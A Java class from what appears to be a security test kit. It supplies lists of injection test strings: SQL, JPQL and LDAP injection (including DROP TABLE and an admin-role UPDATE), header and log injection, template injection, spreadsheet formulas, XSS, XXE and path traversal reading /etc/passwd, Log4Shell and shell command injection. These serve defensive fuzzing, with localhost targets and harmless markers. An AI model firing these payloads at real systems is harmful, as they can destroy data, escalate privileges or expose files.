package be.fjc.testkit.attack;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Texts that make careless software do something: SQL, JPQL, LDAP, headers, logs, templates, spreadsheets, scripts, paths, Unicode,
 * formats. Sums stand for what would be worked out ({@code 1337*1337} is 1787569), waits for what would be run.
 */
public final class Payloads {

    /** One of each kind, used in every size. */
    private static final List<String> KINDS = List.of(
            "x' OR '1'='1' --",
            "x'); SELECT pg_sleep(6); --",
            "x' or d.id is not null or 'a'='",
            "*)(uid=*))(|(uid=*",
            "x\r\nX-{mark}: ja\r\n{mark} geschreven",
            "${1337*1337}#{1337*1337}{{1337*1337}}<%=1337*1337%>",
            "=cmd|' /C calc'!A1",
            "<script>document.title='{mark}'</script>",
            "../../../../etc/passwd",
            "\u202Etxt.exe\u0000\uFEFF\u200B\uD83D\uDE00",
            "%s%n%x%p{0}{}",
            "${jndi:ldap://127.0.0.1:1/{mark}}");

    private static final List<String> MORE = List.of(
            "'", "\"", "\\", "''", "`", ";", "--", "/*", "*/", "#", "%", "_", "x'--", "x' AND 1=0 UNION ALL SELECT NULL,version()--",
            "1; DROP TABLE casework_dossier; --", "x'; UPDATE platform_account_role SET role='TENANT_ADMIN'; --",
            "x' AND (SELECT count(*) FROM pg_user)>0 --", "x'||(SELECT current_user)||'", "1 AND 1=CAST((SELECT version()) AS int)",
            "x' AND pg_sleep(6) IS NULL --", "1;SELECT pg_sleep(6)", "$$; SELECT pg_sleep(6); $$", "E'\\'; SELECT 1 --", "x' LIMIT 1 OFFSET 1 --",
            "x\\'; COPY (SELECT 1) TO PROGRAM 'id' --", "id desc, (select 1)", "x' ORDER BY 99 --", "x%27%20OR%201=1",
            "x' or size(d.persons) > 0 or '1'='2", "x' member of d.persons", "FUNCTION('pg_sleep',6)", "SQL('pg_sleep(6)')", "new java.lang.String('x')",
            "admin)(&)", "*", "(objectClass=*)", "\\2a", "x)(|(password=*))",
            "x\nSet-Cookie: {mark}=1", "x\r\n\r\n<html>{mark}", "x\u2028{mark}", "x\u0085{mark}", "x%0d%0aX-{mark}:1", "x\u000b{mark}", "x\u001b[2J{mark}",
            "\n{mark} [ERROR] aangemeld als beheer", "\r{mark} INFO", "[AUDIT] {mark}",
            "${7*7}", "#{7*7}", "{{constructor.constructor('return 1337*1337')()}}", "${T(java.lang.Runtime).getRuntime().exec('sleep 6')}",
            "#{''.getClass().forName('java.lang.Runtime')}", "@(1337*1337)", "<#assign x=1337*1337>${x}", "$class.inspect('java.lang.Runtime')", "${env:PATH}", "${sys:user.home}",
            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=HYPERLINK(\"http://127.0.0.1/\"&A1)", "=IMPORTXML(\"http://127.0.0.1\",\"//a\")", "|calc",
            "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "'-alert(1)-'", "</textarea><script>1</script>",
            "<iframe srcdoc='<script>1</script>'>", "&lt;script&gt;", "<!--", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd", "file:///etc/passwd", "..;/..;/health", "x/../../admin", "\\\\127.0.0.1\\x",
            "\u0000", "x\u0000y", "\uD800", "\uDC00\uD800", "\uFFFE\uFFFF", "A\u030A\u0325", "\u212B", "\uFB01", "ＳＥＬＥＣＴ", "\u0131\u0130", "ß", "\u202Dx\u202C",
            "\u2066x\u2069", "\uFE0F", "ﷺ", "\u1E9E", "Z\u0351\u036B\u0343\u032A", "\uDB40\uDC41", "0", "-1", "9223372036854775808", "1e309", "NaN", "null", "undefined", "true", "[]", "{}",
            "{\"$gt\":\"\"}", "__proto__", "constructor", "x[y]", "%s%s%s%s%s%s", "%1$9999d", "{0,number,#.##}", "%n%n{mark}", "{{}}", "!!java.net.URL [\"http://127.0.0.1:1\"]",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "() { :; }; sleep 6", "; sleep 6", "| sleep 6", "`sleep 6`", "$(sleep 6)", "& ping -c 6 127.0.0.1 &", "http://127.0.0.1:1/{mark}",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "((((((((((((((((((((((((((((((", "^(a+)+$", "\\x27", "\\u0027", "\\", "/**/", " ", "\t", "\u00a0", "​", "COM1", "CON", "nul.txt", ".htaccess");

    private static final List<String> AROUND = List.of("", "x'", "\"", "')", "*/");

    private Payloads() {}

    /**
     * @param many how many; one of each kind is always among them
     * @param mark a word that shows where something was written that nobody wrote
     */
    public static List<String> some(int many, String mark, Random chance) {
        Set<String> others = new LinkedHashSet<>();
        for (String before : AROUND) {
            MORE.forEach(one -> others.add(before + one));
        }
        List<String> mixed = new ArrayList<>(others);
        Collections.shuffle(mixed, chance);
        List<String> all = new ArrayList<>(KINDS);
        all.addAll(mixed);
        return all.stream().limit(Math.max(many, KINDS.size())).map(one -> one.replace("{mark}", mark)).toList();
    }
}
